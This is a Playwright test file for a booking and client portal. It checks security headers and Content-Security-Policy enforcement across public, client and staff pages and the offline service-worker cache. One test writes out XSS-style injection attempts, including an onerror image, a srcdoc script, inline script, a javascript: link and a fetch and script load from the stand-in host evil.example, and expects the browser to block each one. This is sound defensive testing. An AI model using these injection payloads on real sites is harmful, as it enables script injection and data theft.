import { expect, test, type Page } from '@playwright/test'
import { workingDay } from '@portal/model/availability'
import { studio } from '../../local/src/demo/studio.ts'
import { browser, site, startJourney } from './journey.ts'
import { settle } from './inspect.ts'
import { devices, openPage, pickDay, signInAs, untilControlled, withWorker } from './steps.ts'

startJourney()

const complaints: string[][] = []
let ann: Page
let les: Page

test.beforeAll(async () => {
  ann = await openPage(browser, { ...devices.phone, ...withWorker }, complaints)
  les = await openPage(browser, devices.desktop, complaints)
})

/** Goes to each address and lets it come to rest. */
async function walk(page: Page, paths: readonly string[]): Promise<void> {
  for (const path of paths) {
    const answer = await page.goto(site + path)
    expect(answer?.headers()['content-security-policy'], path).toContain("object-src 'none'")
    await page.locator('h1').first().waitFor()
    await settle(page)
  }
}

/** A browser tells a broken policy as an error in its console, which every window here keeps. */
const expectQuiet = () => expect(complaints.flat()).toEqual([])

test('the public pages keep within the policy', async () => {
  await walk(ann, ['/', '/help', '/contact', '/privacy', '/terms', '/unsubscribe?token=none'])
  expectQuiet()
})

test('so does booking, with the map open', async () => {
  const next = (name: string) => ann.getByRole('button', { name }).click()
  await ann.goto(`${site}/book`)
  await ann.getByText('The Wedding').first().click()
  await next('Look at the extras')
  await next('Choose a date')
  await pickDay(ann, workingDay(studio, 110))
  await next('Choose a place')
  await next('Set a pin on a map')
  await ann.getByRole('button', { name: 'Zoom in' }).click()
  await ann.getByText('Natural Earth').waitFor()
  await next('Set the pin here')
  await settle(ann)
  expectQuiet()
})

test('so does the portal of a client', async () => {
  await signInAs(ann, site, 'Ann Maes')
  await walk(ann, [
    '/portal',
    '/portal/chat',
    '/portal/people',
    '/portal/released/demo-booking-of-dina',
    '/portal/account',
    '/portal/notices',
    '/portal/notices/settings',
  ])
  expectQuiet()
})

test('so does Les’s desk, with its dialogs and its palette', async () => {
  await signInAs(les, site, 'Les')
  await walk(les, [
    '/desk',
    '/desk/queue',
    '/desk/calendar',
    '/desk/clients',
    '/desk/chat',
    '/desk/galleries',
    '/desk/invoices',
    '/desk/books',
    '/desk/analytics',
    '/desk/log',
    '/desk/log/refused',
    '/desk/settings',
    '/desk/notices',
  ])
  await les.keyboard.press('Control+k')
  await les.getByRole('dialog').waitFor()
  // Behind an open dialog the page stands still, by a style that no element of the page carries.
  expect(await les.evaluate(() => getComputedStyle(document.body).overflow)).toBe('hidden')
  await les.keyboard.press('Escape')
  expectQuiet()
})

test('what the service worker keeps is dressed as well, also without a network', async () => {
  await untilControlled(ann)
  await ann.reload()
  await ann.context().setOffline(true)
  const answer = await ann.goto(`${site}/portal`)
  expect(answer?.fromServiceWorker()).toBe(true)
  expect(answer?.headers()).toMatchObject({
    'x-content-type-options': 'nosniff',
    'cross-origin-opener-policy': 'same-origin-allow-popups',
    'content-security-policy': expect.stringContaining("require-trusted-types-for 'script'"),
  })
  await ann.context().setOffline(false)
})

test('what an attacker would try in a page is refused by the browser', async () => {
  const page = await openPage(browser, { ...devices.desktop, ...withWorker }, [])
  await page.goto(`${site}/sign-in`)
  await page.locator('h1').first().waitFor()
  const tried = await page.evaluate(async () => {
    const fails = (work: () => unknown) => {
      try {
        work()
        return false
      } catch {
        return true
      }
    }
    const element = (name: string, fields: object, words = '') => {
      const made = Object.assign(document.createElement(name), fields)
      made.append(words)
      document.body.append(made)
      return made
    }
    const ran = globalThis as { ran?: string }
    const markup = fails(() => (document.body.innerHTML = '<img src=x onerror="ran=1">'))
    const outer = fails(() => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'))
    const frame = fails(() => element('iframe', { srcdoc: '<script>parent.ran=1</script>' }))
    const source = fails(() => element('script', { src: 'https://evil.example/x.js' }))
    const own = fails(() => element('script', { src: '/assets/anything.js' }))
    const inline = fails(() => element('script', {}, 'ran = "inline"'))
    const link = document.createElement('a')
    link.href = 'javascript:ran="link"'
    document.body.append(link)
    link.click()
    const styles = element('style', {}, 'h1 { color: rgb(1, 2, 3) }') as HTMLStyleElement
    const worker = fails(() => new Worker('data:text/javascript,1'))
    const policy = fails(() =>
      (
        globalThis as unknown as {
          trustedTypes: { createPolicy(name: string, rules: object): void }
        }
      ).trustedTypes.createPolicy('mine', {}),
    )
    const sent = await fetch('https://evil.example/', { mode: 'no-cors' }).then(
      () => true,
      () => false,
    )
    await new Promise((resolve) => setTimeout(resolve, 300))
    const styled = styles.sheet !== null && styles.sheet.cssRules.length > 0
    return {
      markup,
      outer,
      frame,
      source,
      own,
      inline,
      worker,
      policy,
      sent,
      styled,
      ran: ran.ran ?? null,
    }
  })
  expect(tried).toEqual({
    markup: true,
    outer: true,
    frame: true,
    source: true,
    own: true,
    // Refused without an error: what matters is that it has not run.
    inline: false,
    worker: true,
    policy: true,
    sent: false,
    styled: false,
    ran: null,
  })
  await page.context().close()
})
